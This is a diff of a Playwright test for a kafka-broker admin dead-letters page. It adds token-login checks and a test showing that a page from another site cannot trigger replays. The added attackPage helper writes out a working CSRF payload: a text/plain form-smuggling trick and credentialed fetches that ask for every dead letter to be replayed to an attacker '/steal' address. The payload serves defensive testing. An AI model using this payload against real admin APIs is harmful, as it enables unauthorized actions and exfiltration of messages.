@@ -5,15 +5,18 @@ import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { chromium, type BrowserContext, type Page } from 'playwright-core';
 import type { DeadLetterList } from '../../dispatcher/dead-letters/index.js';
+import { startRecordingServer, type RecordingServer } from '../helpers/http.js';
 import { waitUntil } from '../helpers/wait.js';
 import { deadLetterWorld, logKinds, type DeadLetterWorld } from './dead-letters-world.js';
-import { ROOT } from './start-cli.js';
+import { adminHeaders, adminToken, ROOT } from './start-cli.js';
 
 /**
  * The /dead-letters page in a real headless Chromium (Debian's `chromium`, driven by
  * playwright-core): it lists the dead letters of `kafka-broker start`, filters them, shows one on
  * click and replays it — with every request outside the admin port refused, so the page is shown
- * to need nothing else. A screenshot per log goes to test-results/ (git-ignored).
+ * to need nothing else. A screenshot per log goes to test-results/ (git-ignored). The browser
+ * logs in with the admin token (a session cookie, and a CSRF token in the page for its POSTs);
+ * a page of another site that posts to the admin API in the same browser replays nothing.
  */
 
 const CHROMIUM = '/usr/bin/chromium';
@@ -24,6 +27,7 @@ for (const kind of logKinds) {
     let w: DeadLetterWorld;
     let context: BrowserContext;
     let page: Page;
+    let attacker: RecordingServer;
     const id = `${kind.name}-page-1`;
     const foreignRequests: string[] = [];
     const pageErrors: string[] = [];
@@ -42,10 +46,18 @@ for (const kind of logKinds) {
         args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
       });
       teardown.push(() => context.close());
-      // Only the admin port: anything else the page asked for would be refused and noted.
+      // The attacker's site: another origin (and site: localhost is not 127.0.0.1) in the same browser.
+      attacker = await startRecordingServer();
+      teardown.push(() => attacker.close());
+      const attackerUrl = attacker.url.replace('127.0.0.1', 'localhost');
+      attacker.respond((_request, response) => {
+        response.setHeader('content-type', 'text/html');
+        response.end(attackPage(w.broker.adminUrl, attacker.url));
+      });
+      // Only the admin port (and the attacker's page): anything else the page asked for would be refused and noted.
       await context.route('**/*', (route) => {
         const url = route.request().url();
-        if (url.startsWith(`${w.broker.adminUrl}/`)) return route.continue();
+        if (url.startsWith(`${w.broker.adminUrl}/`) || url.startsWith(`${attackerUrl}/`)) return route.continue();
         foreignRequests.push(url);
         return route.abort();
       });
@@ -57,13 +69,25 @@ for (const kind of logKinds) {
 
       await w.send(id);
       await waitUntil(async () => {
-        const response = await fetch(`${w.broker.adminUrl}/dead-letters/events?sink=${w.ns}/dls`);
+        const response = await fetch(`${w.broker.adminUrl}/dead-letters/events?sink=${w.ns}/dls`, { headers: adminHeaders() });
         return ((await response.json()) as DeadLetterList).items.length > 0;
       }, { ...w.wait, message: 'the dead letter in the sink' });
     });
 
-    test('lists the dead letter with its trigger, destination and code', async () => {
+    test('the page asks for the token first, then lists the dead letter with its trigger, destination and code', async () => {
       await page.goto(`${w.broker.adminUrl}/dead-letters`);
+      await page.waitForURL(/\/login\?next=%2Fdead-letters$/);
+      await page.fill('#token', 'not-the-token-not-the-token');
+      await page.click('#login button[type="submit"]');
+      await page.locator('#problem', { hasText: 'the token is not valid' }).waitFor();
+      await page.fill('#token', adminToken());
+      await page.click('#login button[type="submit"]');
+      await page.waitForURL(`${w.broker.adminUrl}/dead-letters`);
+      const cookies = await context.cookies(w.broker.adminUrl);
+      assert.equal(cookies.length, 1);
+      assert.equal(cookies[0]!.httpOnly, true);
+      assert.equal(cookies[0]!.sameSite, 'Strict');
+      assert.ok(((await page.locator('meta[name="csrf-token"]').getAttribute('content')) ?? '').length >= 40, 'the page carries its CSRF token');
       assert.equal(await page.title(), 'Dead letters · kafka-broker');
       const row = page.locator(`#dead-letters tbody tr[data-id="${id}"]`);
       assert.equal(await row.count(), 1);
@@ -127,8 +151,55 @@ for (const kind of logKinds) {
 
     test('the page asked for nothing beyond the admin port, and raised no errors', () => {
       assert.deepEqual(foreignRequests, []);
-      // The one console error is Chromium noting the 400 of the page with the bad `since` filter.
-      assert.deepEqual(pageErrors, ['Failed to load resource: the server responded with a status of 400 (Bad Request)']);
+      // Chromium noting the 401 of the wrong token, and the 400 of the page with the bad `since` filter.
+      assert.deepEqual(pageErrors, [
+        'Failed to load resource: the server responded with a status of 401 (Unauthorized)',
+        'Failed to load resource: the server responded with a status of 400 (Bad Request)',
+      ]);
+    });
+
+    test("another site's page, in the same logged-in browser, replays nothing", async () => {
+      const replays = async (): Promise<number | undefined> => {
+        const response = await fetch(`${w.broker.adminUrl}/dead-letters/events?sink=${w.ns}/dls`, { headers: adminHeaders() });
+        return ((await response.json()) as DeadLetterList).items[0]?.replay?.count;
+      };
+      const before = await replays();
+      const received = w.received().length;
+      const evil = await context.newPage();
+      const answers: number[] = [];
+      evil.on('response', (response) => {
+        if (response.url().startsWith(`${w.broker.adminUrl}/dead-letters/replay`)) answers.push(response.status());
+      });
+      await evil.goto(`${attacker.url.replace('127.0.0.1', 'localhost')}/`);
+      await evil.locator('#done').waitFor({ state: 'attached', timeout: 20_000 });
+      // The form post navigates a frame to the admin API's answer; wait for it to arrive.
+      await new Promise((resolve) => setTimeout(resolve, 1000));
+      await evil.close();
+      assert.ok(answers.length > 0 && answers.every((status) => status >= 400 && status < 500), `the admin API refused the attempts: ${JSON.stringify(answers)}`);
+      assert.equal(await replays(), before, 'no replay was recorded');
+      assert.equal(w.received().length, received, 'nothing was delivered');
+      assert.deepEqual(attacker.requests.filter((r) => r.url !== '/'), [], 'nothing reached the address the attacker gave');
     });
   });
+}
+
+/**
+ * What an attacker's page tries against an admin API on this machine: the issue's text/plain form
+ * POST, and a fetch with JSON (which needs a CORS preflight); both name the attacker's address.
+ */
+function attackPage(adminUrl: string, attackerUrl: string): string {
+  const body = JSON.stringify({ all: true, force: true, to: `${attackerUrl}/steal` });
+  return `<!doctype html><html><body>
+<iframe name="sink"></iframe>
+<form id="f" method="post" action="${adminUrl}/dead-letters/replay" enctype="text/plain" target="sink">
+<input type="hidden" name='${body.slice(0, -1)}, "x": "' value='"}'>
+</form>
+<script>
+(async () => {
+  document.getElementById('f').submit();
+  await fetch('${adminUrl}/dead-letters/replay', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '${body}' }).catch(() => {});
+  await fetch('${adminUrl}/dead-letters/replay', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '${body}' }).catch(() => {});
+  const done = document.createElement('p'); done.id = 'done'; document.body.append(done);
+})();
+</script></body></html>`;
 }
